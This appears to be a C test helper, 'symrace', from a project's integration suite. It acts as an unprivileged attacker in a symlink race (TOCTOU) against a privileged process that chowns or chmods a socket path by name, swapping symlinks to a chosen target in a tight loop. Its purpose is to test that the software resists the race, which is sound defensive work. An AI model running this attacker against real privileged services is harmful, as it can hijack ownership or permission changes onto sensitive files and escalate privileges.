/*
 * symrace - an unprivileged attacker for the socket-path race.
 *
 *   symrace SECONDS TARGET PATH...
 *
 * Watches each PATH (lstat in a tight loop) and, as soon as something
 * other than its own link stands there, renames a symbolic link to TARGET
 * over it, hoping that a privileged process is about to chown or chmod
 * PATH by name.  Runs for SECONDS or until SIGTERM, then prints how many
 * links it swapped in and exits 0.  Used by t/integ/41-socket-race.sh as the run-as user.
 */
#define _GNU_SOURCE
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "numparse.h"

static volatile sig_atomic_t stop;

static void
on_term(int sig)
{
	(void)sig;
	stop = 1;
}

int
main(int argc, char **argv)
{
	char tmp[4096];
	struct stat st;
	time_t end;
	uint64_t secs;
	unsigned long swapped = 0, spins = 0;

	if (argc < 4 || numparse_uint(argv[1], strlen(argv[1]), 86400, &secs) < 0) {
		fprintf(stderr, "usage: symrace SECONDS TARGET PATH...\n");
		return 2;
	}
	end = time(NULL) + (time_t)secs;
	signal(SIGTERM, on_term);
	while (!stop) {
		for (int i = 3; i < argc; i++) {
			if (lstat(argv[i], &st) < 0 || S_ISLNK(st.st_mode))
				continue;
			snprintf(tmp, sizeof(tmp), "%s.race", argv[i]);
			unlink(tmp);
			if (symlink(argv[2], tmp) == 0 && rename(tmp, argv[i]) == 0)
				swapped++;
		}
		if ((++spins & 0xfff) == 0 && time(NULL) >= end)
			break;
	}
	printf("%lu\n", swapped);
	return 0;
}
